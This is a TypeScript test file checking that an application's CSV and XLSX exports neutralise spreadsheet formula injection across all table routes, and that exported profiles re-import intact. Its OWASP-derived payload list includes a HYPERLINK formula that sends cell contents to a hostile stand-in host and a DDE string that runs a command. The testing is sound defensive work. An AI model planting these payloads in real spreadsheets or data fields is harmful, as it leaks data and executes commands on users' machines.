import { berlinDay } from '../../src/kernel/calendar.js';
import { guarded, unguarded } from '../../src/kernel/csv-cells.js';
import { reportingPeriod } from '../../src/kernel/reporting-period.js';
import { answersOf } from '../support/answers.js';
import { startApp, type TestApp } from '../support/app.js';
import { cookieOf } from '../support/browser.js';
import { aCheckWorld, best, type CheckWorld } from '../support/checks.js';
import { importNow } from '../support/competencies.js';
import { measured } from '../support/measured.js';
import { type Route, routesOf } from '../support/routes.js';
import { cellsOfCsv, cellsOfWorkbook } from '../support/tables-of.js';
import { aCourse, anOpenProgramme, aPerson, aProgramme, type Somebody } from '../support/vouchers.js';

/** What a name may begin with so that a spreadsheet program runs it. Source: OWASP, CSV Injection. */
const FORMULAS = [
  '=HYPERLINK("http://hostile.example?"&A1;"Kandel")',
  "+1+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''=1+1",
  '=1+1";=2+2;"',
  '＝1+1',
  '＠SUM(1)',
] as const;

/** What hands out a file is told by the words of its handler, or of its decorators. */
const HANDS_OUT = /sendFile|sendBytes|StreamableFile|pdfFile|fileOf|content-disposition|text\/csv|spreadsheetml/;

/** Files that no spreadsheet program opens as a table, with what they are instead. */
const NO_TABLES: Readonly<Record<string, string>> = {
  'GET /api/v1/frameworks/:id/export': 'JSON',
  'GET /api/v1/media/:id': 'picture, sound or film',
  'GET /api/v1/municipalities/:id/works-agreement/document': 'PDF',
  'GET /api/v1/municipalities/:id/works-agreement/annex': 'PDF',
  'GET /api/v1/checks/:id/result/export': 'JSON, PDF',
  'GET /api/v1/programmes/:id/ledger': 'JSON by line',
  'GET /api/v1/programmes/:id/ledger/:position/proof': 'JSON',
  'GET /api/v1/programmes/:id/distributions/:distributionId/export': 'JSON, PDF',
  'GET /api/v1/programmes/:id/redistributions/:redistributionId/export': 'JSON, PDF',
  'GET /api/v1/me/data': 'JSON',
  'GET /my-data/download': 'JSON',
};

interface Export {
  /** How it is asked for; FORMAT and HERE stand for what they say. */
  readonly query?: string;
  readonly by: 'admin' | 'hr';
  readonly id?: 'programme' | 'draft' | 'instrument';
  readonly kinds: readonly ('csv' | 'xlsx')[];
}

/** Every route that hands out a table. */
const TABLES: Readonly<Record<string, Export>> = {
  'GET /api/v1/profiles/export': { by: 'admin', kinds: ['csv'], query: 'format=FORMAT' },
  'GET /api/v1/programmes/:id/settlement': {
    ...{ by: 'admin', id: 'programme', kinds: ['csv'] },
    query: 'format=FORMAT',
  },
  'GET /api/v1/programmes/:id/tallies/report': {
    ...{ by: 'admin', id: 'programme', kinds: ['csv', 'xlsx'] },
    query: 'format=FORMAT',
  },
  'GET /api/v1/audit-acts/export': { by: 'admin', kinds: ['csv'], query: 'format=FORMAT' },
  'GET /api/v1/insights/gaps/file': { by: 'hr', kinds: ['csv'] },
  'GET /admin/profiles/export': { by: 'admin', kinds: ['csv'], query: 'format=FORMAT' },
  'GET /admin/items/:id/quality.csv': { by: 'admin', id: 'instrument', kinds: ['csv'] },
  'GET /admin/courses/export': { by: 'admin', kinds: ['csv'] },
  'GET /admin/programmes/:id/distribution/comparison.csv': {
    ...{ by: 'admin', id: 'draft', kinds: ['csv'] },
    query: 'method=dhondt&weights=population',
  },
  'GET /admin/insights/file': { by: 'admin', kinds: ['csv'], query: 'municipality=HERE' },
  'GET /hr/insights/file': { by: 'hr', kinds: ['csv'] },
  'GET /tallies/:id/report': { by: 'hr', id: 'programme', kinds: ['csv', 'xlsx'], query: 'format=FORMAT' },
};

describe('No name is a formula in any table that the product hands out', () => {
  let app: TestApp;
  let world: CheckWorld;
  let admin: Somebody;
  let routes: readonly Route[];
  let cookies: Readonly<Record<'admin' | 'hr', string>>;
  const ids = { programme: '', draft: '', instrument: '' };

  beforeAll(async () => {
    app = await startApp();
    routes = routesOf(app);
    world = await aCheckWorld(app);
    admin = await aPerson(app, { admin: true });
    cookies = { admin: await cookieOf(app, admin), hr: await cookieOf(app, world.hr) };
    await app.sql(`UPDATE profiles SET summary = '{"de": "Musterstelle"}'`);
    await aVoucherRedeemed();
    await aQuarterMeasured();
    ids.instrument = world.instrumentId;
    await answersOf(app, world, 6);
    await admin.post(`/instruments/${world.instrumentId}/quality`);
    await app.jobsDone();
  });
  afterAll(() => app.close());

  async function aVoucherRedeemed(): Promise<void> {
    ids.programme = await anOpenProgramme(admin);
    ids.draft = ((await admin.post('/programmes', aProgramme())) as { id: string }).id;
    const courseId = await aCourse(app);
    const voucher = await world.hr.post('/vouchers', {
      programmeId: ids.programme,
      personId: world.employee.id,
      courseId,
    });
    await world.employee.post(`/vouchers/${voucher.id as string}/redeem`);
  }

  /** Enough persons for the insights to say something of the quarter that is over. */
  async function aQuarterMeasured(): Promise<void> {
    const period = reportingPeriod(berlinDay(new Date()));
    await measured(app, world, best, 6);
    await app.sql('UPDATE memberships SET valid_from = $1', [reportingPeriod(period.from).from]);
    await app.sql('UPDATE posts SET chosen_at = $1::date', [reportingPeriod(period.from).from]);
    await app.sql(`UPDATE results SET measured_at = $1::date - interval '15 hours'`, [period.to]);
  }

  /** Everybody and everything is called so. */
  async function allCalled(name: string): Promise<void> {
    const localized = JSON.stringify({ de: name, en: name });
    await app.sql('UPDATE municipalities SET name = $1', [name]);
    await app.sql('UPDATE persons SET given_name = $1, family_name = $1', [name]);
    await app.sql('UPDATE memberships SET unit = $1', [name]);
    await app.sql('UPDATE courses SET title = $1, provider = $2', [localized, name]);
    for (const table of ['competencies', 'programmes', 'profiles'])
      await app.sql(`UPDATE ${table} SET title = $1`, [localized]);
    await app.sql('UPDATE items SET text = $1', [localized]);
    await app.sql('DELETE FROM insight_reports');
  }

  async function downloaded(at: string, kind: 'csv' | 'xlsx'): Promise<Buffer> {
    const { query = '', by, id } = TABLES[at]!;
    const path = at.slice(4).replace(':id', id === undefined ? '' : ids[id]);
    const url = `${path}?${query.replace('FORMAT', kind).replace('HERE', world.municipalityId)}`;
    const token = by === 'admin' ? admin.token : world.hr.token;
    const headers = path.startsWith('/api/') ? { authorization: `Bearer ${token}` } : { cookie: cookies[by] };
    const answer = await app.app.inject({ url, headers });
    const type = kind === 'csv' ? 'text/csv; charset=utf-8' : expect.stringContaining('spreadsheetml');
    expect([at, answer.statusCode, answer.headers]).toEqual([
      at,
      200,
      expect.objectContaining({
        'content-type': type,
        'content-disposition': expect.stringMatching(/^attachment; filename="[\w.-]+"$/) as string,
        'content-security-policy': "default-src 'none'; sandbox",
        'x-content-type-options': 'nosniff',
      }),
    ]);
    return answer.rawPayload;
  }

  it('knows every route that hands out a file: a new one stands here with its case, or with what it is instead', () => {
    const wordsOf = ({ controller, handler }: Route): string => {
      const method = (controller.prototype as Record<string, () => unknown>)[handler]!;
      const decorations = Reflect.getMetadataKeys(method).map((key: string): unknown =>
        Reflect.getMetadata(key, method),
      );
      return String(method) + JSON.stringify(decorations);
    };
    const handing = routes.filter((route) => HANDS_OUT.test(wordsOf(route)));
    const names = handing.map(({ method, path }) => `${method} ${path}`).sort();
    expect(names).toEqual([...Object.keys(NO_TABLES), ...Object.keys(TABLES)].sort());
  });

  it.each(FORMULAS)('%j', async (formula) => {
    await allCalled(formula);
    const faults: string[] = [];
    for (const [at, { kinds }] of Object.entries(TABLES)) {
      for (const kind of kinds) {
        const bytes = await downloaded(at, kind);
        const cells = kind === 'csv' ? cellsOfCsv(bytes) : await cellsOfWorkbook(bytes);
        faults.push(...cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell)).map((cell) => `${at}: ${cell}`));
        // The name stands there, so the table was really tried, and whoever reads it gets back what was said.
        // XML has one kind of line end.
        const said = kind === 'csv' ? formula : formula.replaceAll('\r', '\n');
        const kept = cells.filter((cell) => cell === guarded(said)).map(unguarded);
        if (!kept.includes(said)) faults.push(`${at} (${kind}) does not show it: ${cells.slice(0, 40).join('|')}`);
      }
    }
    expect(faults).toEqual([]);
  });

  it('comes back as it was when the exported profiles are imported again', async () => {
    for (const formula of FORMULAS) {
      const title = formula.trim();
      await allCalled(title);
      const file = await downloaded('GET /api/v1/profiles/export', 'csv');
      await app.sql(`UPDATE profiles SET title = '{"de": "changed"}'`);
      const report = await importNow(app, 'profiles', file);
      expect([title, report.state, report.problems]).toEqual([title, 'applied', []]);
      const published = await app.sql<{ title: object }>(`SELECT title FROM profiles WHERE state = 'published'`);
      expect(published).toEqual([{ title: { de: title, en: title } }]);
    }
  });
});
